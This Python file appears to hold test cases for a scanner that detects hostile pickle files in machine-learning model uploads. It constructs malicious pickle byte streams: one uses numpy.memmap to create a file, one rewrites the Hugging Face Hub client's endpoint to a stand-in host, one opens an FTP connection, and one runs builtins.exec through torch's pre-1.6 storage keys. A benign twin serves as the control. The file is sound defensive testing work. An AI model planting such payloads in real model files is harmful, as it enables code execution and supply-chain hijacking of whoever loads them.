"""Opcodes by which a pickle acts without a plain call of a plain function."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import bad, twin
from benchmarks.scan.hostile.ordinary import vit, vit_bin
from benchmarks.scan.hostile.pickle_bytes import (
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NONE,
    SETITEMS,
    group,
    legacy,
    name,
    number,
    raw,
    stacked,
    table,
    text,
    whole,
)

NEWOBJ_EX, POP_MARK, OBJ = b"\x92", b"1", b"o"
NOWHERE = "/var/tmp/hubclean-case"


def plain() -> bytes:
    """What a script dumps of its labels: dicts, lists, a set, bytes, numbers, with protocol 5."""
    names = EMPTY_LIST + MARK + text("cat") + text("dog") + APPENDS
    seen = b"\x8f" + MARK + number(1) + number(2) + b"\x90"
    fixed = MARK + text("cat") + b"\x91"
    numbers = EMPTY_DICT + MARK + text("cat") + number(0) + text("dog") + number(2**40) + SETITEMS
    return whole(table(names=names, seen=seen, fixed=fixed, numbers=numbers, mark=raw(b"\x00\x01"), none=NONE), 5)


CASES = [
    bad(
        "made-with-keywords",
        "torch.load(weights_only=False) or pickle: NEWOBJ_EX runs numpy.memmap.__new__, which makes a file",
        lambda: vit_bin(
            whole(
                stacked("numpy", "memmap")
                + EMPTY_TUPLE
                + table(filename=text(NOWHERE), mode=text("w+"), shape=number(8))
                + NEWOBJ_EX,
                4,
            )
        ),
    ),
    bad(
        "module-built",
        "torch.load(weights_only=False): BUILD on a module puts a state into its globals, so that the "
        "Hub's client asks another host from now on",
        lambda: vit_bin(
            whole(name("huggingface_hub", "constants") + table(ENDPOINT=text("https://hub.example.net")) + BUILD)
        ),
    ),
    bad(
        "forgotten-result",
        "torch.load(weights_only=False): an instance is made below a mark and forgotten by POP_MARK",
        lambda: vit_bin(
            whole(EMPTY_DICT + MARK + MARK + name("ftplib", "FTP") + text("files.example.net") + OBJ + POP_MARK)
        ),
    ),
    bad(
        "keys-of-the-old-format",
        "torch's format before 1.6: the last pickle, of storage keys, is unpickled as freely",
        lambda: vit_bin(
            legacy(
                keys=EMPTY_LIST
                + MARK
                + text("0")
                + stacked("builtins", "exec")
                + group(text("pass"))
                + b"R"
                + text("1")
                + APPENDS
            )
        ),
    ),
    twin("labels", "pickle, in the script of whoever pushed it", lambda: vit({"labels.pkl": plain()})),
]
